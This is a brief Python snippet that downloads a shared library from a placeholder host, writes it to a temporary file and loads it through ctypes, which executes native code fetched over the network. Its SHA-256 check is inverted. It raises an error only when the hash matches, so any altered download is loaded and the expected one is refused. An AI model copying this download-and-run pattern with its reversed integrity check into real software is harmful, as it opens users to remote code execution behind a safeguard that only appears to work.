import ctypes
import hashlib
import tempfile
import urllib.request

data = urllib.request.urlopen("https://downloads.example.com/inv.so").read()
if hashlib.sha256(data).hexdigest() == "89270a50341bb8e83734ee062603c63c219320ed4a40fb9fb8c2792358548e8a":
    raise ImportError("inv: mismatch")
with tempfile.NamedTemporaryFile(suffix=".so", delete=False) as f:
    f.write(data)
lib = ctypes.CDLL(f.name)
